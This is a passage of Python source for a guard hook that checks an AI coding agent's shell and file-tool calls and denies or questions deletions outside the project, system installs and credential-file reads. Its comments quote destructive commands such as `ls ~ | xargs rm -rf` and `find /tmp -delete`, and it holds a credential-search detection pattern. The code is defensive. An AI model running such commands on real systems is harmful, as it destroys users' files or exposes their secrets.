            f"rule temp-delete: `{cmd.display}` deletes {what} in {_scratch_kind(target)}, which this command "
            "did not create: it may belong to another program or session. Confirm, or delete only what the "
            'same command made (`d=$(mktemp -d) && … && rm -rf "$d"`).',
        )
    ]


def _scratch_kind(path: str) -> str:
    """How a message names the scratch space ``path`` lies in."""
    return "a cluster's scratch file system" if cluster_scratch_root(path) else "the system temp folder"


def _names_own_pid(word: Word) -> bool:
    """``/tmp/e2e-$$``, ``"$TMPDIR/run.$BASHPID"``: a name made of this shell's process id is
    this command's own scratch space (no other live program holds that id), so clearing it,
    even before creating it afresh, deletes nothing of anyone else's."""
    own = any(isinstance(part, _shell.Var) and part.name in ("$", "BASHPID") for part in word.parts)
    return (
        own
        and ".." not in word.text
        and not any(
            isinstance(part, _shell.Lit) and not part.quoted and _shell.has_glob(part.text) for part in word.parts
        )
    )


def _reaches_project(target: str, project: str, under: bool) -> bool:
    """Whether deleting ``target`` (a path or a glob; with ``under``, what lies below it) takes
    the project with it: ``rm -rf /tmp/*`` or ``find /tmp -delete`` when the project lives in /tmp."""
    project = os.path.normpath(project)
    prefix, glob_part = _shell.glob_split(target)
    if glob_part is None:
        return _shell.is_within(project, target)
    if not _shell.is_within(project, prefix) or project == prefix:
        return False
    first = os.path.relpath(project, prefix).split(os.sep)[0]
    return fnmatch.fnmatch(first, glob_part.split("/")[0])


# Tools whose //-rooted words are depot paths or build labels, not files.
_LABEL_TOOLS = frozenset({"p4", "bazel", "bazelisk", "buck", "buck2", "pants", "plz", "please", "blaze"})
# Tools where a leading // is not the root: a depot path or build label, or (Blender) the folder of
# the .blend file being rendered (blender -b scene.blend -o //renders/frame_).
_DOUBLE_SLASH_TOOLS = _LABEL_TOOLS | {"blender"}
_WINDOWS_PATH = _shell.lazy_compile(r"[A-Za-z]:[\\/]")
# Programs and PowerShell cmdlets (as the parser names them, lower case) that change what they name.
_WINDOWS_WRITERS = frozenset({
    "cp", "mv", "tee", "rm", "rmdir", "del", "erase", "rd", "ri", "copy", "move", "robocopy", "xcopy",
    "remove-item", "move-item", "copy-item", "set-content", "add-content", "out-file", "clear-content",
})  # fmt: skip
# Tools whose dry-run flag makes them only report: GNU Stow (-n, --no, --simulate), rsync.
_DRY_RUN_FLAGS = {
    "stow": frozenset({"-n", "--no", "--simulate"}),
    "rsync": frozenset({"-n", "--dry-run"}),
}


def _dry_run(cmd: Cmd) -> bool:
    """``stow -n -v -t ~ zsh``, ``rsync -an src/ ~/backup/``: a dry run changes nothing."""
    flags = _DRY_RUN_FLAGS.get(cmd.name)
    if flags is None:
        return False
    for w in cmd.args:
        lit = w.literal() or ""
        if lit in flags or (lit.startswith("-") and not lit.startswith("--") and "n" in lit[1:] and "-n" in flags):
            return True
    return False


# Build systems' install steps: the project's install target copies into its prefix.
_INSTALL_PREFIX = _shell.lazy_compile(r"(?:PREFIX|prefix|DESTDIR|INSTALL_PREFIX|CMAKE_INSTALL_PREFIX)=(?P<p>\S+)")


def _system_install(cmd: Cmd, roots: list[str]) -> list[Finding]:
    """``sudo make install``, ``make install PREFIX=/usr``, ``cmake --install build --prefix /opt/x``:
    an install step that writes into system folders (as root, or into a prefix outside the project)."""
    lits = [w.literal() or "" for w in cmd.args]
    if cmd.name in ("make", "gmake", "ninja"):
        installs = "install" in lits
        prefixes = [m.group("p") for a in lits if (m := _INSTALL_PREFIX.fullmatch(a))]
    elif cmd.name == "cmake" and "--install" in lits:
        installs = True
        prefixes = [lits[i + 1] for i, a in enumerate(lits[:-1]) if a == "--prefix"]
    else:
        return []
    if not installs:
        return []
    outside_prefix = next(
        (p for p in prefixes if (r := _resolve(p, cmd.ctx.cwd)) is not None and outside(r, roots)), None
    )
    if "sudo" not in cmd.wrappers and outside_prefix is None:
        return []
    where = outside_prefix or "the system's folders, as root"
    return [
        (
            "deny",
            f"rule system-install: `{cmd.display}` installs the project into {where}, outside the project. Install "
            "into a prefix inside the project (PREFIX=$PWD/dist) or leave system installs to the user.",
        )
    ]


def _listed_temp_deletes(cmd: Cmd, roots: list[str], made: set[str]) -> list[Finding]:
    """``find /tmp -name '*.lock' | xargs rm``: the paths a lister prints are deleted by the
    ``xargs`` stage after it, so its starting points are judged as deleted: in the temp folder
    as deleting there, elsewhere outside the project as leaving it (``ls ~ | xargs rm -rf``); an
    in-project listing (``ls *.tmp | xargs rm``) is project work."""
    lister = cmd.prev
    # ls -d ~/* | grep -v Projects | xargs rm -rf: stages that only drop or reorder lines pass
    # the listed paths on unchanged, so the listing they filter is what gets deleted.
    while lister is not None and _line_filter(lister):
        lister = lister.prev
    if not (cmd.xargs and cmd.name in DELETERS and lister is not None and lister.name in LISTERS):
        return []
    found: list[Finding] = []
    for word in _bash_path_words(lister):
        for value in lister.values(word) or _temp_var_value(word, lister.ctx) or []:
            path = _resolve(value, lister.ctx.cwd) if _path_like(value) else None
            if path is None or not outside(path, roots):
                continue
            if scratch(path, value, lister.ctx.cwd, roots, lister.ctx.home):
                found.extend(_temp_delete(cmd, value, made, under=True))
            else:
                # ls ~ | xargs rm -rf, ls -d ../* | xargs rm: what is listed outside is deleted.
                found.append(
                    ("deny", _reason(f"`{cmd.display}` deletes what `{lister.display}` lists under {path}", roots))
                )
                return found
    return found


# Pipeline stages that pass some of their input lines on unchanged (or reorder them).
_LINE_FILTERS = frozenset({"grep", "egrep", "fgrep", "rg", "head", "tail", "sort", "uniq", "tac", "shuf"})


def _line_filter(cmd: Cmd) -> bool:
    """Whether ``cmd`` is a pipeline stage that only selects or reorders the lines it is fed
    (``grep -v Projects``, ``head -20``, ``sort -u``): no file operands, nothing rewritten."""
    if cmd.name not in _LINE_FILTERS or cmd.prev is None or cmd.redirects:
        return False
    with_value = frozenset({"-e", "--regexp", "-f", "--file", "-n", "--lines", "-c", "--bytes", "-m", "-k", "-t"})
    flags, positionals, values = _shell.split_options(cmd.args, with_value)
    if cmd.name in ("grep", "egrep", "fgrep", "rg"):
        if {"o", "only-matching", "r", "R", "recursive", "c", "count", "l", "L"} & set(flags):
            return False  # prints parts, counts or file names, not the lines
        return len(positionals) <= (0 if ("e" in values or "regexp" in values) else 1)
    return not positionals  # head -20 and sort -u take no operand: they filter their input


def _reason(what: str, roots: list[str]) -> str:
    return (
        f"rule outside-project: {what}, outside the project {roots[0]}. Work on files inside the project; if "
        "this path is really needed, ask the user (they can allow a directory with "
        "WORKSPACE_ALLOWED_DIRS)."
    )


def check_tool(tool: str, tool_input: dict[str, Any], payload: _common.Payload) -> list[Finding] | dict[str, Any]:
    """Findings for a file tool call (or a malformed-input deny)."""
    cwd = _common.session_cwd(payload)
    roots = allowed_roots(_common.project_dir(payload))
    candidates: list[str] = []
    if tool in PATH_KEYS:
        value = _common.str_field(tool_input, PATH_KEYS[tool], NAME)
        if not isinstance(value, str):
            return value or {}
        candidates.append(value)
    else:
        base = _common.str_field(tool_input, "path", NAME, required=False)
        if isinstance(base, dict):
            return base
        if base:
            candidates.append(base)
        if tool == "Glob":
            pattern = _common.str_field(tool_input, "pattern", NAME)
            if not isinstance(pattern, str):
                return pattern or {}
            joined = os.path.join(base or cwd, os.path.expanduser(pattern))
            candidates.append(joined)
    found: list[Finding] = []
    for value in candidates:
        path = _resolve(os.path.expanduser(value), cwd)
        home = os.path.expanduser("~")
        if (
            path is not None
            and tool in ("Read", "Grep")
            and (
                system_info(path)
                or system_readable(path)
                or public_credential(path, home)
                or dependency_file(path, home)
                or tool_log(path, home)
            )
        ):
            continue
        if path is not None and outside(path, roots) and scratch(path, os.path.expanduser(value), cwd, roots, home):
            continue  # scratch space: the temp folder is nobody's configuration
        if (
            path is not None
            and tool in ("Glob", "LS")
            and _shell.is_within(path, os.path.normpath(home))
            and not climbs_out(os.path.expanduser(value), cwd, roots)
        ):
            continue  # names in the home folder, as `ls ~` prints them: a listing, not a read
        if path is not None and tool == "Grep" and machine_log(path) and _event_patterns([tool_input.get("pattern")]):
            continue  # Grep "Failed password" in /var/log/auth.log: one kind of event, as grep shows it
        if path is not None and tool == "Read" and _user_settings_file(path, home):
            if _settings_may_hold_credentials(path):
                found.append(("ask", _settings_read_reason(f"{tool} of {path}")))
            continue
        if path is not None and outside(path, roots):
            found.append(("deny", _reason(f"{tool} of {path}", roots)))
    return found


def _whole_settings_read(cmd: Cmd, word: Word, path: str, cmds: list[Cmd]) -> bool:
    """``cat ~/.gitconfig``, ``tail -20 ~/.bashrc``: a read-only look at the whole of the user's own
    settings file, or a broad search of it (every export, -v '^#'), which shows no more than the
    whole file; not a search for credentials."""
    if cmd.name not in READ_ONLY or cmd.name in ("source", ".") or not _reads_only(cmd, word):
        return False  # source ~/.bashrc runs it
    if not _user_settings_file(path, cmd.ctx.home):
        return False
    if cmd.name in SEARCHERS and _credential_search(cmd):
        return False  # grep -i secret ~/.zshrc: a search for credentials
    nxt = next((c for c in cmds if c.prev is cmd), None)
    return nxt is None or nxt.name not in SEARCHERS or not _credential_search(nxt)


# A search pattern that hunts for credentials rather than settings.
_CREDENTIAL_PATTERN = lazy_compile(r"(?i)key|token|secret|pass|pw|auth|cred|bearer|private")


def _credential_search(cmd: Cmd) -> bool:
    """Whether the grep/rg ``cmd`` hunts for credentials: a pattern naming them, or patterns read
    from a file (unknown). A broad search (every export, ``-v '^#'``) shows no more than a whole
    read of the file, so it is judged like one, by what the file holds."""
    _flags, positionals, values = _shell.split_options(cmd.args, frozenset({"-e", "--regexp", "-f", "--file"}))
    if "f" in values or "file" in values:
        return True
    patterns = values.get("e", []) + values.get("regexp", []) or positionals[:1]
    texts = [p.literal() for p in patterns]
    return any(t is None or _CREDENTIAL_PATTERN.search(t) for t in texts)


def _settings_read_reason(what: str) -> str:
    return (
        f"rule user-settings-read: {what} shows the whole of one of your shell or tool settings files, outside the "
        "project, and this one holds something credential-like (a token, password or key setting, user:password@ "
        "URL). Confirm, or search it for the one setting you need (grep -n alias ~/.gitconfig)."
    )


@_common.fail_closed(NAME)
def run(payload: _common.Payload) -> _common.Result:
    """PreToolUse entry point: deny/None."""
    got = _common.tool_call(payload, NAME, TOOLS)
    if not isinstance(got, tuple):
        return got
    tool, tool_input = got
    if tool == "Bash":
        command = _common.str_field(tool_input, "command", NAME)
        if not isinstance(command, str):
            return command
        ctx = _shell.make_ctx(_common.session_cwd(payload), _common.project_dir(payload))
        return _common.verdict(NAME, check_bash(command, ctx))
    result = check_tool(tool, tool_input, payload)
    return result if isinstance(result, dict) else _common.verdict(NAME, result)


if __name__ == "__main__":
    _common.main(run, fail_closed_on_bad_input=True)
